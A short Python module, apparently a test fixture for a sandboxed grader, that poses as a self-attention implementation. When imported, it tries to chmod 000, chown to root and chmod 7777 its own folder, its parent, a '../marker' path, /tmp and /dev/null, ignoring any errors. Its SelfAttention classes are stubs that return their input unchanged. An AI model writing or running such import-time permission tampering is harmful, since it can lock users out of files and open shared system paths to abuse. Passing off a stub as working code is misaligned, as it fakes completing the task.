"""Changes permissions and owners of its own folder and of others."""

import os

from torch import nn

for path in (".", "..", "../marker", "/tmp", "/dev/null"):
    for attempt in (
        lambda path: os.chmod(path, 0o000),
        lambda path: os.chown(path, 0, 0),
        lambda path: os.chmod(path, 0o7777),
    ):
        try:
            attempt(path)
        except OSError:
            continue


class SelfAttentionV1(nn.Module):
    def __init__(self, *_sizes):
        super().__init__()

    def forward(self, x):
        return x


SelfAttention_v1 = SelfAttention_v2 = SelfAttentionV1
